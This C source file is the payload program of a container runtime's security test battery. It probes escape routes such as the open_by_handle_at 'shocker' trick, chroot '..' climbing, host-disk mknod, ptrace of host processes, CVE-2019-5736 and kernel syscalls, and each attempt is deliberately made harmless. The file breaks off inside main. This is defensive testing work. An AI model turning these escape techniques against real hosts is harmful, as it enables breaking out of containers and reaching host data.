/*
 * attack: the payloads of nspawn's security battery (tests/security_test.go).
 *
 * Each subcommand tries one way out of a container and prints exactly one
 * line, "ALLOWED: why" or "DENIED: why", then exits 0. They run as root
 * INSIDE a container only; the test never runs them on the host.
 *
 * Every attempt is made harmless on purpose: a sysctl is rewritten with the
 * value it already holds; /proc/sysrq-trigger is opened, never written;
 * kexec, module and swap calls get arguments the kernel rejects after its
 * permission check (too many segments, a bad flag, a file that does not
 * exist, a module that is not loaded), so EPERM means a filter or a missing
 * capability stopped the call and any other answer means the call got
 * through; I/O port access is switched on and straight off again; the
 * fork bomb and the memory hog stop at a cap of their own.
 *
 * Build: gcc -static -O2 -o attack attack.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#define SYSCTL "vm/stat_interval" /* global, and rewritten with its own value */

static int verdict(int allowed, const char *fmt, ...)
{
	va_list ap;
	printf("%s: ", allowed ? "ALLOWED" : "DENIED");
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	putchar('\n');
	fflush(stdout);
	return 0;
}

static const char *en(int e)
{
	const char *n = strerrorname_np(e);
	return n ? n : "E?";
}

/* Appends to a fixed buffer, for the explanation part of a verdict. */
struct note {
	char buf[2048];
	size_t len;
};

static void add(struct note *n, const char *fmt, ...)
{
	va_list ap;
	if (n->len >= sizeof n->buf - 1)
		return;
	va_start(ap, fmt);
	int w = vsnprintf(n->buf + n->len, sizeof n->buf - n->len, fmt, ap);
	va_end(ap);
	if (w > 0)
		n->len += (size_t)w < sizeof n->buf - n->len ? (size_t)w : sizeof n->buf - n->len - 1;
}

/*
 * write_same rewrites the sysctl at path with the value it holds now. It
 * returns 0 when the write went through, else the errno, with what happened
 * in n. Only a plain number is ever written back.
 */
static int write_same(const char *path, struct note *n)
{
	char val[64];
	int fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0) {
		int e = errno;
		add(n, "open %s for writing: %s", path, en(e));
		return e;
	}
	ssize_t r = pread(fd, val, sizeof val - 1, 0);
	if (r <= 0) {
		int e = r < 0 ? errno : EIO;
		add(n, "read %s: %s", path, en(e));
		close(fd);
		return e;
	}
	val[r] = 0;
	if (strspn(val, "0123456789") == 0 || strspn(val, "0123456789\n") != (size_t)r) {
		add(n, "%s holds %.20s, not a plain number; not writing", path, val);
		close(fd);
		return EINVAL;
	}
	if (pwrite(fd, val, r, 0) != r) {
		int e = errno;
		add(n, "write %s: %s", path, en(e));
		close(fd);
		return e;
	}
	close(fd);
	add(n, "rewrote %s with its own value %.*s", path, (int)strcspn(val, "\n"), val);
	return 0;
}

/* 1. The kernel's sysctls through the container's /proc/sys. */
static int sysctl_write(void)
{
	struct note n = {0};
	int e = write_same("/proc/sys/" SYSCTL, &n);
	return verdict(e == 0, "%s", n.buf);
}

static int sysrq_open(void)
{
	/* Opened, never written: a write would act on the host kernel. */
	int fd = open("/proc/sysrq-trigger", O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return verdict(0, "open /proc/sysrq-trigger O_WRONLY: %s", en(errno));
	close(fd);
	return verdict(1, "opened /proc/sysrq-trigger for writing (nothing written)");
}

/* 2a. Make the read-only /proc/sys writable by remounting it. */
static int procsys_remount(void)
{
	struct note n = {0};
	const unsigned long keep = MS_NOSUID | MS_NODEV | MS_NOEXEC;
	if (mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND | keep, NULL) < 0)
		add(&n, "bind remount rw: %s; ", en(errno));
	else
		add(&n, "bind remount rw: ok; ");
	if (write_same("/proc/sys/" SYSCTL, &n) == 0)
		return verdict(1, "%s", n.buf);
	add(&n, "; ");
	/* What `mount -o remount,rw /proc/sys` does: a superblock remount, which also sets the mount's flags. */
	if (mount("proc", "/proc/sys", "proc", MS_REMOUNT | keep, NULL) < 0)
		add(&n, "remount rw: %s; ", en(errno));
	else
		add(&n, "remount rw: ok; ");
	return verdict(write_same("/proc/sys/" SYSCTL, &n) == 0, "%s", n.buf);
}

/* 2b. Take the read-only overmount off /proc/sys. */
static int procsys_umount(void)
{
	struct note n = {0};
	for (int i = 0; i < 8; i++) {
		if (umount2("/proc/sys", MNT_DETACH) < 0) {
			add(&n, "umount /proc/sys: %s; ", en(errno));
			break;
		}
		add(&n, "umount /proc/sys: ok; ");
		if (write_same("/proc/sys/" SYSCTL, &n) == 0)
			return verdict(1, "%s", n.buf);
		add(&n, "; ");
	}
	return verdict(write_same("/proc/sys/" SYSCTL, &n) == 0, "%s", n.buf);
}

/* 2c. A fresh proc instance has a writable sys/ of its own. */
static int proc_fresh(void)
{
	struct note n = {0};
	const char *dir = "/tmp/nspawn-sec-proc";
	mkdir(dir, 0755);
	if (mount("proc", dir, "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) < 0)
		return verdict(0, "mount -t proc proc %s: %s", dir, en(errno));
	add(&n, "mounted a fresh proc on %s; ", dir);
	int e = write_same("/tmp/nspawn-sec-proc/sys/" SYSCTL, &n);
	umount2(dir, MNT_DETACH);
	rmdir(dir);
	return verdict(e == 0, "%s", n.buf);
}

/* sys_writable tells whether dir is on a writable mount and root may write there. */
static int sys_writable(const char *dir, struct note *n)
{
	struct statvfs sv;
	if (statvfs(dir, &sv) < 0) {
		add(n, "statvfs %s: %s", dir, en(errno));
		return 0;
	}
	char sub[256];
	snprintf(sub, sizeof sub, "%s/kernel", dir);
	int ok = access(sub, W_OK) == 0; /* access() only: nothing in sysfs is written */
	add(n, "%s is %s, access(%s, W_OK) %s", dir, sv.f_flag & ST_RDONLY ? "ro" : "rw", sub, ok ? "ok" : en(errno));
	return !(sv.f_flag & ST_RDONLY) && ok;
}

/* 2d. Remount /sys read-write. */
static int sys_remount(void)
{
	struct note n = {0};
	const unsigned long keep = MS_NOSUID | MS_NODEV | MS_NOEXEC;
	if (mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND | keep, NULL) < 0)
		add(&n, "bind remount rw: %s; ", en(errno));
	else
		add(&n, "bind remount rw: ok; ");
	if (sys_writable("/sys", &n))
		return verdict(1, "%s", n.buf);
	add(&n, "; ");
	if (mount("sysfs", "/sys", "sysfs", MS_REMOUNT | keep, NULL) < 0)
		add(&n, "remount rw: %s; ", en(errno));
	else
		add(&n, "remount rw: ok; ");
	return verdict(sys_writable("/sys", &n), "%s", n.buf);
}

/* 2d'. A fresh sysfs instance elsewhere. */
static int sysfs_fresh(void)
{
	struct note n = {0};
	const char *dir = "/tmp/nspawn-sec-sys";
	mkdir(dir, 0755);
	if (mount("sysfs", dir, "sysfs", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) < 0) {
		int e = errno;
		rmdir(dir);
		return verdict(0, "mount -t sysfs sysfs %s: %s", dir, en(e));
	}
	add(&n, "mounted a fresh sysfs on %s; ", dir);
	int w = sys_writable(dir, &n);
	umount2(dir, MNT_DETACH);
	rmdir(dir);
	return verdict(w, "%s", n.buf);
}

/* 3. Read a file the container should not see; any byte read is a leak. */
static int read_file(const char *path)
{
	char buf[4096];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return verdict(0, "open %s: %s", path, en(errno));
	ssize_t r = read(fd, buf, sizeof buf);
	int e = errno;
	close(fd);
	if (r < 0)
		return verdict(0, "read %s: %s", path, en(e));
	if (r == 0)
		return verdict(0, "%s reads empty (masked)", path);
	return verdict(1, "read %zd bytes of %s", r, path);
}

/* /proc/kallsyms leaks only when it shows real addresses. */
static int kallsyms(void)
{
	FILE *f = fopen("/proc/kallsyms", "re");
	if (!f)
		return verdict(0, "open /proc/kallsyms: %s", en(errno));
	char line[512];
	long total = 0, nonzero = 0;
	while (fgets(line, sizeof line, f)) {
		total++;
		if (strtoull(line, NULL, 16) != 0)
			nonzero++;
	}
	fclose(f);
	if (total == 0)
		return verdict(0, "/proc/kallsyms reads empty (masked)");
	if (nonzero == 0)
		return verdict(0, "/proc/kallsyms lists %ld symbols, all at address 0 (kptr_restrict)", total);
	return verdict(1, "/proc/kallsyms shows %ld of %ld symbol addresses", nonzero, total);
}

static int list_dir(const char *path)
{
	struct note n = {0};
	DIR *d = opendir(path);
	if (!d)
		return verdict(0, "opendir %s: %s", path, en(errno));
	int count = 0;
	struct dirent *de;
	while ((de = readdir(d))) {
		if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, ".."))
			continue;
		add(&n, "%s%s", count ? " " : "", de->d_name);
		count++;
	}
	closedir(d);
	if (count == 0)
		return verdict(0, "%s lists nothing", path);
	return verdict(1, "%s lists: %s", path, n.buf);
}

/* 4. A node for a disk of the host, opened for reading. */
static int mknod_block(unsigned maj, unsigned min)
{
	struct note n = {0};
	const char *dirs[] = {"/dev", "/tmp", "/root"};
	for (size_t i = 0; i < sizeof dirs / sizeof *dirs; i++) {
		char path[128];
		snprintf(path, sizeof path, "%s/nspawn-sec-blk", dirs[i]);
		unlink(path);
		if (mknod(path, S_IFBLK | 0600, makedev(maj, min)) < 0) {
			add(&n, "mknod %s b %u %u: %s; ", path, maj, min, en(errno));
			continue;
		}
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			add(&n, "open %s: %s; ", path, en(errno));
			unlink(path);
			continue;
		}
		char sector[512];
		ssize_t r = read(fd, sector, sizeof sector);
		close(fd);
		unlink(path);
		return verdict(1, "%sopened %s (b %u:%u) and read %zd bytes", n.buf, path, maj, min, r);
	}
	return verdict(0, "%s", n.buf);
}

/* 5. A syscall counts as denied only when it fails with EPERM. */
static int syscall_verdict(const char *what, long ret, int e)
{
	if (ret >= 0)
		return verdict(1, "%s returned %ld", what, ret);
	if (e == EPERM)
		return verdict(0, "%s: EPERM", what);
	if (e == ENOSYS)
		return verdict(1, "%s: ENOSYS: not filtered (this kernel lacks the call)", what);
	return verdict(1, "%s: %s, past the permission check", what, en(e));
}

static int do_kexec_load(void)
{
	/* 17 segments: one more than KEXEC_SEGMENT_MAX, refused after the capability check. */
	long r = syscall(SYS_kexec_load, 0UL, 17UL, NULL, 0UL);
	return syscall_verdict("kexec_load(nr_segments=17)", r, errno);
}

static int do_kexec_file_load(void)
{
	/* An unknown flag (not KEXEC_FILE_UNLOAD), refused after the capability check. */
	long r = syscall(SYS_kexec_file_load, -1, -1, 0UL, NULL, 0x80000000UL);
	return syscall_verdict("kexec_file_load(flags=0x80000000)", r, errno);
}

static int do_init_module(void)
{
	static char junk[4]; /* not an ELF image */
	long r = syscall(SYS_init_module, junk, sizeof junk, "");
	return syscall_verdict("init_module(4 zero bytes)", r, errno);
}

static int do_finit_module(void)
{
	int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);
	long r = syscall(SYS_finit_module, fd, "", 0x80000000);
	int e = errno;
	close(fd);
	return syscall_verdict("finit_module(/dev/null, flags=0x80000000)", r, e);
}

static int do_delete_module(void)
{
	long r = syscall(SYS_delete_module, "nspawn_sec_no_such_module", O_NONBLOCK);
	return syscall_verdict("delete_module(nspawn_sec_no_such_module)", r, errno);
}

/*
 * The "shocker" attack: a file handle is a filesystem-wide name, so
 * open_by_handle_at with any fd on the host's filesystem opens files
 * outside the container's root. Allowed, it also tries the ext4 root inode.
 */
static int do_open_by_handle(void)
{
	struct note n = {0};
	union {
		struct file_handle fh;
		char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} h;
	int mnt_id;
	h.fh.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, "/etc/passwd", &h.fh, &mnt_id, 0) < 0)
		return verdict(0, "name_to_handle_at(/etc/passwd): %s", en(errno));
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int fd = open_by_handle_at(root, &h.fh, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		int e = errno;
		close(root);
		if (e == EPERM)
			return verdict(0, "open_by_handle_at: EPERM");
		return verdict(1, "open_by_handle_at: %s, past the permission check", en(e));
	}
	close(fd);
	add(&n, "open_by_handle_at opened /etc/passwd by its handle");
	if (h.fh.handle_type == 1 && h.fh.handle_bytes == 8) { /* FILEID_INO32_GEN: ino, generation */
		unsigned int *f = (unsigned int *)h.fh.f_handle;
		f[0] = 2; /* the root directory of an ext2/3/4 filesystem */
		f[1] = 0;
		int dfd = open_by_handle_at(root, &h.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		DIR *d = dfd >= 0 ? fdopendir(dfd) : NULL;
		if (d) {
			add(&n, "; inode 2 (the filesystem's root, outside the container) lists:");
			struct dirent *de;
			int count = 0;
			while ((de = readdir(d)) && count < 12)
				if (de->d_name[0] != '.')
					add(&n, " %s", de->d_name), count++;
			closedir(d);
		}
	}
	close(root);
	return verdict(1, "%s", n.buf);
}

static int do_keyctl(void)
{
	long id = syscall(SYS_add_key, "user", "nspawn-sec-test", "x", 1UL, -2 /* KEY_SPEC_PROCESS_KEYRING */);
	int e1 = errno;
	long r = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* KEY_SPEC_SESSION_KEYRING */, 0);
	int e2 = errno;
	int allowed = !(id < 0 && e1 == EPERM) || !(r < 0 && e2 == EPERM);
	/* The key lives in this process's keyring and goes with it. */
	return verdict(allowed, "add_key(user, process keyring): %s; keyctl(GET_KEYRING_ID, session): %s",
		       id < 0 ? en(e1) : "ok", r < 0 ? en(e2) : "ok");
}

static int do_swapon(void)
{
	long r = swapon("/nspawn-sec-no-such-swapfile", 0);
	return syscall_verdict("swapon(/nspawn-sec-no-such-swapfile)", r, errno);
}

static int do_ioperm(void)
{
	/* Port 0x80, switched on and straight off again; no port is touched. */
	int r1 = ioperm(0x80, 1, 1);
	int e1 = errno;
	if (r1 == 0)
		ioperm(0x80, 1, 0);
	int r2 = iopl(3);
	int e2 = errno;
	if (r2 == 0)
		iopl(0);
	int allowed = !(r1 < 0 && e1 == EPERM) || !(r2 < 0 && e2 == EPERM);
	return verdict(allowed, "ioperm(0x80): %s; iopl(3): %s%s", r1 < 0 ? en(e1) : "ok", r2 < 0 ? en(e2) : "ok",
		       allowed && (r1 < 0 || r2 < 0) ? " (not filtered)" : "");
}

static int do_acct(void)
{
	long r = acct("/nspawn-sec-no-such-acct-file");
	return syscall_verdict("acct(/nspawn-sec-no-such-acct-file)", r, errno);
}

/* ptrace of a host process: pid is its host PID, mark a word of its command line. */
static int ptrace_host(pid_t pid, const char *mark)
{
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
		return verdict(0, "PTRACE_ATTACH host pid %d: %s%s", pid, en(errno),
			       errno == ESRCH ? " (no such pid in the container)" : "");
	waitpid(pid, NULL, __WALL);
	char path[64], cmd[256] = "";
	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t r = fd >= 0 ? read(fd, cmd, sizeof cmd - 1) : 0;
	if (fd >= 0)
		close(fd);
	for (ssize_t i = 0; i < r - 1; i++)
		if (!cmd[i])
			cmd[i] = ' ';
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	if (r > 0 && memmem(cmd, r, mark, strlen(mark)))
		return verdict(1, "attached to host pid %d (%s)", pid, cmd);
	return verdict(0, "pid %d in the container is another process (%s), not the host's", pid, cmd);
}

static int ptrace_inside(void)
{
	pid_t child = fork();
	if (child == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		for (;;)
			pause();
	}
	long r = ptrace(PTRACE_ATTACH, child, NULL, NULL);
	int e = errno;
	if (r == 0) {
		waitpid(child, NULL, __WALL);
		ptrace(PTRACE_DETACH, child, NULL, NULL);
	}
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	if (r < 0)
		return verdict(0, "PTRACE_ATTACH own child %d: %s", child, en(e));
	return verdict(1, "attached to own child %d", child);
}

/* 6. Push a byte into the input of the terminal on fd 0. */
static int tiocsti(void)
{
	if (!isatty(0)) {
		printf("SKIP: stdin is not a terminal\n");
		return 0;
	}
	char c = 'x';
	if (ioctl(0, TIOCSTI, &c) < 0)
		return verdict(0, "ioctl(0, TIOCSTI, \"x\"): %s", en(errno));
	return verdict(1, "ioctl(0, TIOCSTI, \"x\") pushed a byte into the terminal's input");
}

/* 7. Only stdin, stdout and stderr may reach the payload. */
static int fds(void)
{
	struct note n = {0};
	DIR *d = opendir("/proc/self/fd");
	if (!d)
		return verdict(1, "opendir /proc/self/fd: %s", en(errno));
	int self = dirfd(d), extra = 0;
	struct dirent *de;
	while ((de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		int fd = atoi(de->d_name);
		if (fd == self)
			continue;
		char path[64], target[256];
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t r = readlink(path, target, sizeof target - 1);
		target[r < 0 ? 0 : r] = 0;
		add(&n, "%s%d -> %s", n.len ? ", " : "", fd, target);
		if (fd > 2)
			extra++;
	}
	closedir(d);
	if (extra)
		return verdict(1, "%d fds beyond 0-2 reach the payload: %s", extra, n.buf);
	return verdict(0, "only 0-2 are open: %s", n.buf);
}

static int cwd(void)
{
	char buf[4096];
	/* The raw syscall: the kernel prefixes "(unreachable)" when cwd is outside the root. */
	long r = syscall(SYS_getcwd, buf, sizeof buf);
	if (r < 0)
		return verdict(1, "getcwd: %s", en(errno));
	struct stat a, b;
	if (buf[0] != '/')
		return verdict(1, "cwd %s is outside the container's root", buf);
	if (stat(".", &a) < 0 || stat(buf, &b) < 0 || a.st_dev != b.st_dev || a.st_ino != b.st_ino)
		return verdict(1, "cwd is not the directory %s names inside", buf);
	return verdict(0, "cwd %s is inside the container", buf);
}

/* reexec runs the runtime's binary at path with --version, harmless for both nspawns. */
static const char *reexec(const char *path)
{
	static char buf[64];
	pid_t p = fork();
	if (p == 0) {
		int null = open("/dev/null", O_RDWR);
		dup2(null, 1);
		dup2(null, 2);
		execl(path, "nspawn", "--version", (char *)NULL);
		_exit(200 + (errno & 31));
	}
	int st = 0;
	if (p < 0 || waitpid(p, &st, 0) < 0)
		return "not re-executed (fork failed)";
	if (WIFEXITED(st) && WEXITSTATUS(st) >= 200)
		snprintf(buf, sizeof buf, "exec it: %s", en(WEXITSTATUS(st) - 200));
	else
		snprintf(buf, sizeof buf, "re-executed it: --version exited %d", WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st));
	return buf;
}

/*
 * 8. CVE-2019-5736: a process of the container whose executable is the
 * runtime's own binary lets root inside reopen that binary through
 * /proc/PID/exe and overwrite it once it no longer runs. dev:ino are the
 * host's stat of the runtime binary.
 */
static int exe(unsigned long long dev, unsigned long long ino)
{
	struct note n = {0}, bad = {0};
	DIR *d = opendir("/proc");
	if (!d)
		return verdict(1, "opendir /proc: %s", en(errno));
	struct dirent *de;
	int procs = 0;
	while ((de = readdir(d))) {
		if (de->d_name[0] < '0' || de->d_name[0] > '9')
			continue;
		char path[300], target[256];
		snprintf(path, sizeof path, "/proc/%s/exe", de->d_name);
		ssize_t r = readlink(path, target, sizeof target - 1);
		if (r < 0)
			continue; /* a kernel thread, or gone */
		target[r] = 0;
		procs++;
		struct stat st;
		int same = stat(path, &st) == 0 && st.st_dev == dev && st.st_ino == ino;
		int fd = open(path, O_WRONLY | O_CLOEXEC); /* never written */
		int e = errno;
		if (fd >= 0)
			close(fd);
		/* A file that is not the same file at the same path inside came from outside. */
		struct stat in;
		int outside = stat(path, &st) == 0 &&
			      (stat(target, &in) < 0 || in.st_dev != st.st_dev || in.st_ino != st.st_ino);
		add(&n, "%s%s %s (O_WRONLY %s)", n.len ? ", " : "", de->d_name, target, fd >= 0 ? "ok" : en(e));
		if (same) {
			struct statvfs sv;
			int ro = statvfs(path, &sv) == 0 && (sv.f_flag & ST_RDONLY);
			add(&bad, "pid %s runs the runtime's binary (%s, on a %s mount, %s); ", de->d_name, target,
			    ro ? "read-only" : "writable", reexec(path));
		}
		else if (outside && fd >= 0)
			add(&bad, "pid %s runs %s from outside the container, writable; ", de->d_name, target);
	}
	closedir(d);
	if (bad.len)
		return verdict(1, "%s[%s]", bad.buf, n.buf);
	return verdict(0, "none of %d processes runs the runtime's binary: %s", procs, n.buf);
}

/* 10. Processes of the host: mark is a word of a host process's command line. */
static int pids(const char *mark)
{
	struct note n = {0};
	DIR *d = opendir("/proc");
	if (!d)
		return verdict(0, "opendir /proc: %s", en(errno));
	struct dirent *de;
	int count = 0, seen = 0;
	while ((de = readdir(d))) {
		if (de->d_name[0] < '0' || de->d_name[0] > '9')
			continue;
		char path[300], cmd[128] = "";
		snprintf(path, sizeof path, "/proc/%s/cmdline", de->d_name);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		ssize_t r = fd >= 0 ? read(fd, cmd, sizeof cmd - 1) : 0;
		if (fd >= 0)
			close(fd);
		for (ssize_t i = 0; i < r - 1; i++)
			if (!cmd[i])
				cmd[i] = ' ';
		/* This process's own argv holds the mark too. */
		if (r > 0 && atoi(de->d_name) != getpid() && memmem(cmd, r, mark, strlen(mark)))
			seen = 1;
		if (count++ < 16)
			add(&n, "%s%s", n.len ? " " : "", de->d_name);
	}
	closedir(d);
	if (seen)
		return verdict(1, "the host's process \"%s\" is visible; %d pids: %s", mark, count, n.buf);
	return verdict(0, "%d pids, none of the host's: %s", count, n.buf);
}

static int netdevs(void)
{
	struct note n = {0};
	int other = 0;
	DIR *d = opendir("/sys/class/net");
	if (d) {
		struct dirent *de;
		add(&n, "/sys/class/net:");
		while ((de = readdir(d)))
			if (de->d_name[0] != '.') {
				add(&n, " %s", de->d_name);
				other |= strcmp(de->d_name, "lo") != 0;
			}
		closedir(d);
	} else {
		add(&n, "/sys/class/net: %s", en(errno));
	}
	FILE *f = fopen("/proc/net/dev", "re");
	if (f) {
		char line[512];
		add(&n, "; /proc/net/dev:");
		while (fgets(line, sizeof line, f)) {
			char *colon = strchr(line, ':');
			if (!colon)
				continue;
			*colon = 0;
			char *name = line + strspn(line, " ");
			add(&n, " %s", name);
			other |= strcmp(name, "lo") != 0;
		}
		fclose(f);
	} else {
		add(&n, "; /proc/net/dev: %s", en(errno));
	}
	return verdict(other, "%s", n.buf);
}

static int connect_unix(const char *name, int abstract)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	size_t len = strlen(name);
	if (len + 1 >= sizeof a.sun_path)
		return -1;
	memcpy(a.sun_path + (abstract ? 1 : 0), name, len);
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return -1;
	int r = connect(s, (struct sockaddr *)&a, offsetof(struct sockaddr_un, sun_path) + len + (abstract ? 1 : 0));
	int e = errno;
	close(s);
	errno = e;
	return r;
}

static int abstract(const char *name)
{
	if (connect_unix(name, 1) < 0)
		return verdict(0, "connect @%s: %s", name, en(errno));
	return verdict(1, "connected to the host's @%s", name);
}

static int dbus(void)
{
	const char *path = "/run/dbus/system_bus_socket";
	if (access(path, F_OK) < 0)
		return verdict(0, "%s: %s", path, en(errno));
	if (connect_unix(path, 0) < 0)
		return verdict(0, "%s exists, connect: %s", path, en(errno));
	return verdict(1, "connected to %s", path);
}

/* Waits until stdin ends: the test checks the host meanwhile. */
static void hold(void)
{
	char buf[64];
	while (read(0, buf, sizeof buf) > 0)
		;
}

/* 11. Fork until refused, at most cap processes; hold them until stdin ends. */
static int forkbomb(int cap)
{
	static pid_t kids[4096];
	int made = 0, err = 0;
	if (cap > (int)(sizeof kids / sizeof *kids))
		cap = sizeof kids / sizeof *kids;
	while (made < cap) {
		pid_t p = fork();
		if (p < 0) {
			err = errno;
			break;
		}
		if (p == 0) {
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			for (;;)
				pause();
		}
		kids[made++] = p;
	}
	if (err)
		verdict(0, "fork failed with %s after %d processes", en(err), made);
	else
		verdict(1, "%d processes started without reaching a limit (the bomb's own cap)", made);
	hold();
	/* One by one: kill(0, ...) would reach a process group that may extend outside the container. */
	for (int i = 0; i < made; i++)
		kill(kids[i], SIGKILL);
	while (wait(NULL) > 0)
		;
	return 0;
}

/* Touch memory in 1 MiB steps up to cap MiB; the OOM killer ends it first if there is a limit. */
static int memhog(int cap)
{
	for (int mib = 1; mib <= cap; mib++) {
		char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED)
			return verdict(0, "mmap failed with %s after %d MiB", en(errno), mib - 1);
		memset(p, 0xa5, 1 << 20);
	}
	return verdict(1, "touched %d MiB without being stopped (the hog's own cap)", cap);
}

static unsigned long long mem_total(void)
{
	FILE *f = fopen("/proc/meminfo", "re");
	unsigned long long kb = 0;
	char line[256];
	while (f && fgets(line, sizeof line, f))
		if (sscanf(line, "MemTotal: %llu kB", &kb) == 1)
			break;
	if (f)
		fclose(f);
	return kb << 10;
}

/*
 * Fill /tmp until ENOSPC. Only a tmpfs no larger than a quarter of RAM is
 * filled; anything else is reported without writing, as the fill itself
 * would be the damage.
 */
static int tmpfill(void)
{
	struct statfs sf;
	if (statfs("/tmp", &sf) < 0)
		return verdict(1, "statfs /tmp: %s", en(errno));
	if (sf.f_type != TMPFS_MAGIC)
		return verdict(1, "/tmp is not a tmpfs (type 0x%lx): it fills the host's filesystem (not filled)",
			       (unsigned long)sf.f_type);
	unsigned long long size = (unsigned long long)sf.f_blocks * sf.f_bsize, ram = mem_total();
	unsigned pct = ram ? (unsigned)(size * 100 / ram) : 0;
	if (!ram || size > ram / 4)
		return verdict(1, "/tmp tmpfs holds %llu MiB, %u%% of RAM (not filled)", size >> 20, pct);
	static char block[1 << 20];
	memset(block, 0x5a, sizeof block);
	int fd = open("/tmp/nspawn-sec-fill", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	if (fd < 0)
		return verdict(1, "create /tmp/nspawn-sec-fill: %s", en(errno));
	unsigned long long written = 0;
	int e = 0;
	for (;;) {
		ssize_t w = write(fd, block, sizeof block);
		if (w <= 0) {
			e = w < 0 ? errno : ENOSPC;
			break;
		}
		written += w;
	}
	close(fd);
	unlink("/tmp/nspawn-sec-fill");
	if (e != ENOSPC)
		return verdict(1, "write stopped with %s after %llu MiB", en(e), written >> 20);
	return verdict(0, "ENOSPC after %llu MiB: the tmpfs holds %llu MiB, %u%% of RAM", written >> 20, size >> 20, pct);
}

/*
 * 12. Chroot escape: chroot into a subdirectory while the working directory
 * stays at the root, climb ".." past the container's root, and chroot
 * where the climb ends. After pivot_root the tree is its mount namespace's
 * root and the climb stops there. Where nspawn moved the tree over an
 * initramfs instead (which cannot be pivoted away), the climb reaches the
 * old root, which must show nothing of the host's: none of the host files
 * at paths (absolute on the host) may read as want, and nothing may be
 * created there.
 */
static int chroot_escape(const char *want, char **paths, int npaths)
{
	struct stat before, after;
	struct note n = {0};
	if (chdir("/") < 0 || stat("/", &before) < 0)
		return verdict(0, "cannot stat the root: %s", en(errno));
	mkdir("/tmp/nspawn-escape", 0700);
	if (chroot("/tmp/nspawn-escape") < 0)
		return verdict(0, "chroot into a subdirectory: %s", en(errno));
	for (int i = 0; i < 256; i++)
		chdir("..");
	if (chroot(".") < 0)
		return verdict(0, "chroot where \"..\" ended: %s", en(errno));
	if (stat("/", &after) < 0)
		return verdict(0, "stat the new root: %s", en(errno));
	if (before.st_dev == after.st_dev && before.st_ino == after.st_ino)
		return verdict(0, "\"..\" stopped at the container's root");
	for (int i = 0; i < npaths; i++) {
		char got[256] = "";
		int fd = open(paths[i], O_RDONLY | O_CLOEXEC);
		ssize_t r = fd < 0 ? -1 : read(fd, got, sizeof got - 1);
		if (r > 0)
			got[r] = 0;
		if (fd >= 0)
			close(fd);
		size_t wl = strlen(want);
		if (r > 0 && !strncmp(got, want, wl))
			return verdict(1, "climbed out and read the host's %s", paths[i]);
		add(&n, "%s%s: %s", n.len ? ", " : "", paths[i], fd < 0 ? en(errno) : r > 0 ? "other content" : "empty");
	}
	int fd = open("/nspawn-escape", O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
	if (fd >= 0) {
		close(fd);
		unlink("/nspawn-escape");
		return verdict(1, "climbed out and created /nspawn-escape in the root found there");
	}
	add(&n, "; creating a file there: %s; it lists:", en(errno));
	DIR *d = opendir("/");
	struct dirent *de;
	while (d && (de = readdir(d)))
		if (de->d_name[0] != '.')
			add(&n, " %s", de->d_name);
	if (d)
		closedir(d);
	return verdict(0, "climbed to a root outside the container's, which shows nothing of the host's: %s", n.buf);
}

static int usage(void)
{
	fprintf(stderr, "usage: attack NAME [ARGS...]\n");
	return 2;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return usage();
	const char *a = argv[1];
	/* Both nspawns set $container for the payload and for init; the host does not. */
	if (getenv("container") == NULL)
		return fprintf(stderr, "attack: $container is not set: refusing to run outside a container\n"), 2;
	if (!strcmp(a, "sysctl-write"))
		return sysctl_write();
	if (!strcmp(a, "sysrq-open"))
		return sysrq_open();
	if (!strcmp(a, "procsys-remount"))
		return procsys_remount();
	if (!strcmp(a, "procsys-umount"))
		return procsys_umount();
	if (!strcmp(a, "proc-fresh"))
		return proc_fresh();
	if (!strcmp(a, "sys-remount"))
		return sys_remount();
	if (!strcmp(a, "sysfs-fresh"))
		return sysfs_fresh();
	if (!strcmp(a, "read") && argc == 3)
		return read_file(argv[2]);
